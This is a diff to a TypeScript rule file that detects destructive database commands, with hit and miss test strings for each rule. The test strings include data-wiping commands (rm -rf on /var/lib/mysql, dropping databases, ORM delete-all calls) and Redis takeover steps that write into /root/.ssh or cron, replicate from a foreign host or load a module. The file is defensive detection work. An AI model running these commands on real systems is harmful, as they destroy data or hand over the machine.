@@ -6,28 +6,41 @@ import { CRITICAL } from "./dangerous.ts";
 const REDIS = ["redis-cli", "valkey-cli", "keydb-cli"] as const;
 // Calls of clients and of object-relational mappers that leave nothing.
 const DROPS =
-  /\bdrop_?database\b|\bdrop_?collection\b|\bdelete_?many\s*\(\s*\{\s*\}|\.remove\s*\(\s*\{\s*\}\s*\)|\b(?:db|collection)(?:\.\w+|\[[^\]]{0,60}\]){0,3}\.drop\s*\(|\bflush_?(?:all|db)\s*\(|\bobjects\.all\(\)\.delete\s*\(|\b[A-Z]\w*\.(?:unscoped\.)?(?:delete_all|destroy_all)\b|\b[A-Z]\w*::truncate\s*\(|\bsync\s*\(\s*\{\s*force\s*:\s*true|\bdropSchema\s*\(/i;
+  /\bdrop_?database\b|\bdrop_?collection\b|\bdelete_?many\s*\(\s*(?:\{\s*(?:where\s*:\s*\{\s*\}\s*)?\}\s*[,)]|\))|\.destroy\s*\(\s*\{\s*(?:where\s*:\s*\{\s*\}|truncate\s*:\s*true)|\bknex\s*\([^)]{0,60}\)\s*\.(?:del|delete|truncate)\s*\(|\bdrop_all\s*\(|\.remove\s*\(\s*\{\s*\}\s*\)|\b(?:db|collection)(?:\.\w+|\[[^\]]{0,60}\]){0,3}\.drop\s*\(|\bflush_?(?:all|db)\s*\(|\bobjects\.all\(\)\.delete\s*\(|\b[A-Z]\w*\.(?:unscoped\.)?(?:delete_all|destroy_all)\b|\b[A-Z]\w*::truncate\s*\(|\bsync\s*\(\s*\{\s*force\s*:\s*true|\bdropSchema\s*\(/i;
 /** What drops the database, by framework. */
-const RESETS: readonly (readonly [programs: string | readonly string[], verb: RegExp])[] = [
-  [
+const RESETS: readonly (readonly [string | readonly string[], NonNullable<Parameters<typeof command>[1]>])[] = [
+  [["rails", "rake"], {
     // Tasks stand one behind the other, with settings between them.
-    ["rails", "rake"],
-    /^(?:(?:[^\s:=]*[:=]\S*|clean|clobber) )*db:(?:drop|reset|migrate:reset|fresh|purge|wipe|truncate_all|seed:replant)(?:[:[]\S*)?(?: |$)/,
-  ],
-  ["artisan", /^(?:migrate:(?:fresh|reset|refresh)|db:wipe|doctrine:schema:drop)(?: |$)/],
-  ["doctrine", /^(?:doctrine:)?(?:mongodb:)?(?:database:drop|schema:drop|orm:schema-tool:drop)(?: |$)/],
-  ["django-admin", /^(?:flush|reset_db|reset_schema|migrate (?:\w+ )?(?:zero|reset))(?: |$)/],
-  ["flask", /^(?:db (?:downgrade base|reset|clean|drop)|(?:drop|reset)[-_](?:db|all)|dropAll)(?: |$)/],
-  ["prisma", /^(?:migrate reset|db (?:reset|drop))(?: |$)/],
-  ["mix", /^(?:do .*)?ecto\.(?:drop|reset)(?:[ ,]|$)/],
-  ["alembic", /^downgrade (?:-\d+ )?base(?: |$)/],
-  [["sequelize", "sequelize-cli"], /^db:(?:drop|migrate:undo:all)(?: |$)/],
-  ["typeorm", /^schema:drop(?: |$)/],
-  [["sqlx", "diesel"], /^(?:database|db) (?:drop|reset)(?: |$)/],
-  ["hasura", /^metadata clear(?: |$)/],
-  ["wp", /^(?:db (?:reset|clean|drop)|site empty)(?: |$)/],
-  ["drush", /^sql[:-]drop(?: |$)/],
+    verb:
+      /^(?:(?:[^\s:=]*[:=]\S*|clean|clobber) )*db:(?:drop|reset|migrate:reset|fresh|purge|wipe|truncate_all|seed:replant)(?:[:[]\S*)?(?: |$)/,
+  }],
+  ["artisan", { verb: /^(?:migrate:(?:fresh|reset|refresh)|db:wipe|doctrine:schema:drop)(?: |$)/ }],
+  ["doctrine", { verb: /^(?:doctrine:)?(?:mongodb:)?(?:database:drop|schema:drop|orm:schema-tool:drop)(?: |$)/ }],
+  ["django-admin", { verb: /^(?:flush|reset_db|reset_schema|migrate (?:\w+ )?(?:zero|reset))(?: |$)/ }],
+  ["flask", { verb: /^(?:db (?:downgrade base|reset|clean|drop)|(?:drop|reset)[-_](?:db|all)|dropAll)(?: |$)/ }],
+  ["prisma", { verb: /^(?:migrate reset|db (?:reset|drop))(?: |$)/ }],
+  ["prisma", { options: ["force-reset"] }],
+  ["mix", { verb: /^(?:do .*)?ecto\.(?:drop|reset)(?:[ ,]|$)/ }],
+  ["alembic", { verb: /^downgrade (?:-\d+ )?base(?: |$)/ }],
+  [["sequelize", "sequelize-cli"], { verb: /^db:(?:drop|migrate:undo:all)(?: |$)/ }],
+  ["typeorm", { verb: /^schema:drop(?: |$)/ }],
+  ["knex", { verb: /^migrate:rollback\b/, options: ["all"] }],
+  [["sqlx", "diesel"], { verb: /^(?:database|db) (?:drop|reset)(?: |$)/ }],
+  ["hasura", { verb: /^metadata clear(?: |$)/ }],
+  ["hasura", { verb: /^migrate apply\b/, words: / --down[= ]all(?: |$)/ }],
+  ["wp", { verb: /^(?:db (?:reset|clean|drop)|site empty)(?: |$)/ }],
+  ["drush", { verb: /^sql[:-]drop(?: |$)/ }],
+  // Its verbs are carried out one behind the other.
+  ["flyway", { operand: /^clean$/ }],
+  ["liquibase", { operand: /^drop-?all$/i }],
+  [["dbmate", "migrate"], { words: /(?:^|\s)drop(?:\s|$)/ }],
+  ["migrate", { words: /(?:^| )down --?all(?: |$)/ }],
+  ["goose", { words: /(?:^|\s)(?:reset|down-to 0)(?:\s|$)/ }],
 ];
+const FRAMEWORKS = RESETS.flatMap(([programs]) => programs);
+/** One line for all of them: a database for tests is free, one that is said to be this machine's is rebuilt, any other is lost. */
+const resets = (...without: readonly string[]) =>
+  RESETS.map(([programs, rest]) => command(programs, { ...rest, without: ["testing", "listing", ...without] }));
 const DATA =
   /^\/var\/lib\/(?:postgresql|pgsql|mysql|mariadb|mongo\w*|redis|elasticsearch|etcd|cassandra|clickhouse|influxdb|docker)\b|^\/data\/db\b/;
 
@@ -54,6 +67,7 @@ export const databases: readonly Policy[] = [
         command("curl", { words: /match_all|q=\*(?::\*)?/ }),
       ),
       command("influx", { words: /\b(?:bucket|org) delete\b|drop database/i }),
+      command("influx", { verb: /^delete\b/, without: ["predicate", "p"] }),
       all(
         command("curl", { words: /(?:-\w*X|--request)[ =]?DELETE\b/ }),
         command("curl", {
@@ -83,18 +97,28 @@ export const databases: readonly Policy[] = [
       `mongosh shop --eval 'db["orders"].drop()'`,
       `python3 -c 'import pymongo; pymongo.MongoClient().drop_database("shop")'`,
       "rails runner 'Order.delete_all'",
+      "node -e 'prisma.order.deleteMany()'",
+      "npx tsx -e 'await prisma.order.deleteMany({ where: {} })'",
+      `node -e 'Order.destroy({ where: {}, truncate: true })'`,
+      `node -e 'await knex("orders").del()'`,
+      "python3 -c 'from shop import db; db.drop_all()'",
       "python manage.py shell <<< 'Order.objects.all().delete()'",
       "docker exec db rm -rf /var/lib/mysql",
       "kafka-topics.sh --delete --topic orders",
+      "influx delete --bucket orders --start 1970-01-01T00:00:00Z --stop 2100-01-01T00:00:00Z",
       "curl -sXDELETE http://search.example.com:9200/orders",
       `curl -X POST localhost:9200/orders/_delete_by_query -d '{"query":{"match_all":{}}}'`,
     ],
     misses: [
       `mongosh --eval 'print("db.dropDatabase() is off")'`,
       "rails runner 'puts Order.count'",
+      "node -e 'prisma.order.deleteMany({ where: { id: 1 } })'",
+      `node -e 'await knex("orders").where("id", 1).del()'`,
+      "node -e 'Order.destroy({ where: { id: 1 } })'",
       'python3 -c \'import pandas as pd; print(pd.read_csv("a.csv").drop(columns=["b"]))\'',
       "curl -X DELETE localhost:9200/scratch",
       "kafka-topics.sh --list",
+      `influx delete --bucket orders --start 2024-01-01T00:00:00Z --stop 2024-01-02T00:00:00Z -p 'id="1"'`,
       "createdb app_test",
       "dropdb --if-exists app_test && createdb app_test",
       "dropdb -h db -U postgres app_test",
@@ -109,7 +133,7 @@ export const databases: readonly Policy[] = [
     ...CRITICAL,
     id: "sys_dangerous_database_flush",
     title: "Emptying a key-value store or a queue",
-    why: "All keys of all users are gone at once; delete the keys that you mean by name",
+    why: "Everything in it is gone at once, sessions and waiting jobs too; delete the keys that you mean by name",
     when: any(
       command(REDIS, { verb: /^flush(?:all|db)\b/i }),
       command(REDIS, { verb: /^(?:del|unlink) \uE000\*/i }),
@@ -139,22 +163,50 @@ export const databases: readonly Policy[] = [
   },
   {
     ...CRITICAL,
+    id: "sys_dangerous_database_server_takeover",
+    title: "Having a key-value store write files, load code or obey another server",
+    why:
+      "Whoever holds its files or its master runs code on the machine of the store; change its configuration file, and let the user start it anew",
+    when: any(
+      command(REDIS, {
+        verb: /^config set (?:dir|dbfilename|appendfilename|appenddirname|protected-mode|enable-\S+)\b/i,
+      }),
+      command(REDIS, { verb: /^(?:slaveof|replicaof) (?!no one\b|localhost\b|127\.|::1\b)/i }),
+      command(REDIS, { verb: /^module load(?:ex)?\b/i }),
+      all(
+        command(REDIS),
+        effect("send", {
+          text:
+            /^[ \t]*(?:config set (?:dir|dbfilename) |(?:slaveof|replicaof) (?!no one\b|localhost\b|127\.)|module load)/im,
+        }),
+      ),
+    ),
+    hits: [
+      "redis-cli config set dir /root/.ssh",
+      "redis-cli -h cache CONFIG SET dbfilename authorized_keys",
+      "redis-cli slaveof 203.0.113.5 6379",
+      "redis-cli MODULE LOAD /tmp/x.so",
+      "printf 'config set dir /var/spool/cron\\nsave\\n' | redis-cli",
+    ],
+    misses: [
+      "redis-cli config get dir",
+      "redis-cli config set maxmemory 100mb",
+      "redis-cli replicaof no one",
+      "redis-cli replicaof localhost 6380",
+      "redis-cli module list",
+      "redis-cli set 'config set dir' 1",
+    ],
+  },
+  {
+    ...CRITICAL,
     severity: "high",
     id: "sys_dangerous_database_reset",
     title: "A framework drops its database",
     why:
-      "Rows that nobody can rebuild go with the schema; write a migration that goes forward, or reset a database for tests (RAILS_ENV=test and the like)",
+      "Rows that nobody can rebuild go with the schema, and nothing says that the database is this machine's; write a migration that goes forward, or name a database for tests (RAILS_ENV=test and the like)",
     when: any(
-      ...RESETS.map(([programs, verb]) => command(programs, { verb, without: ["testing", "listing"] })),
-      command(["prisma", "npm", "yarn", "pnpm"], { options: ["force-reset"] }),
-      command("knex", { verb: /^migrate:rollback\b/, options: ["all"] }),
-      // Its verbs are carried out one behind the other.
-      command("flyway", { operand: /^clean$/ }),
-      command("liquibase", { operand: /^drop-?all$/i }),
-      command(["dbmate", "migrate"], { words: /(?:^|\s)drop(?:\s|$)/ }),
-      command("goose", { words: /(?:^|\s)(?:reset|down-to 0)(?:\s|$)/ }),
-      command("hasura", { verb: /^migrate apply\b/, words: / --down[= ]all(?: |$)/ }),
-      command("migrate", { words: /(?:^| )down --?all(?: |$)/ }),
+      ...resets("local"),
+      command(["npm", "yarn", "pnpm"], { options: ["force-reset"] }),
       command("supabase", { verb: /^db reset\b/, options: ["linked", "db-url"] }),
       command("dotnet", { verb: /^ef database drop\b/ }),
     ),
@@ -186,6 +238,12 @@ export const databases: readonly Policy[] = [
       "wp db reset --yes",
       "hasura migrate apply --down all",
       "migrate -path db -database postgres://db/shop down -all",
+      "RAILS_ENV=test DATABASE_URL=postgres://db.example.com/shop_test rails db:drop",
+      "DATABASE_URL=postgres://10.0.0.7/shop npx prisma migrate reset",
+      "NODE_ENV=production npx sequelize-cli db:drop",
+      "DB_HOST=db.example.com APP_ENV=local php artisan migrate:fresh",
+      "bin/console doctrine:database:drop --force",
+      "symfony console doctrine:schema:drop --force",
     ],
     misses: [
       "rails db:migrate",
@@ -208,6 +266,8 @@ export const databases: readonly Policy[] = [
       "python manage.py test flush",
       "prisma migrate status",
       "flyway info",
+      "NODE_ENV=development npx sequelize-cli db:drop",
+      "DATABASE_URL=postgres://localhost/shop_test npx prisma migrate reset",
     ],
   },
   {
@@ -220,11 +280,29 @@ export const databases: readonly Policy[] = [
     when: any(
       command(["rake", "rails"], { words: /(?:^|\s)db:(?:schema:load|setup)\b/ }),
       command("supabase", { verb: /^db reset\b/ }),
+      all(any(...resets()), command(FRAMEWORKS, { options: ["local"] })),
       command("prisma", { options: ["accept-data-loss"] }),
+      command("drizzle-kit", { verb: /^push\b/, options: ["force"], without: ["testing"] }),
       command("mongorestore", { options: ["drop"] }),
       command("pg_restore", { options: ["c", "clean"] }),
     ),
-    hits: ["rails db:schema:load", "supabase db reset", "mongorestore --drop dump"],
-    misses: ["rails db:migrate", "supabase start", "mongorestore dump"],
+    hits: [
+      "rails db:schema:load",
+      "supabase db reset",
+      "mongorestore --drop dump",
+      "RAILS_ENV=development rails db:reset",
+      "DATABASE_URL=postgres://ada@localhost:5432/shop npx prisma migrate reset --force",
+      "flyway -url=jdbc:postgresql://127.0.0.1/shop clean",
+      "php artisan migrate:fresh --env=local",
+      "npx drizzle-kit push --force",
+    ],
+    misses: [
+      "rails db:migrate",
+      "supabase start",
+      "mongorestore dump",
+      "npx drizzle-kit push",
+      "NODE_ENV=test npx drizzle-kit push --force",
+      "DATABASE_URL=postgres://localhost/shop_test npx prisma migrate reset",
+    ],
   },
 ];
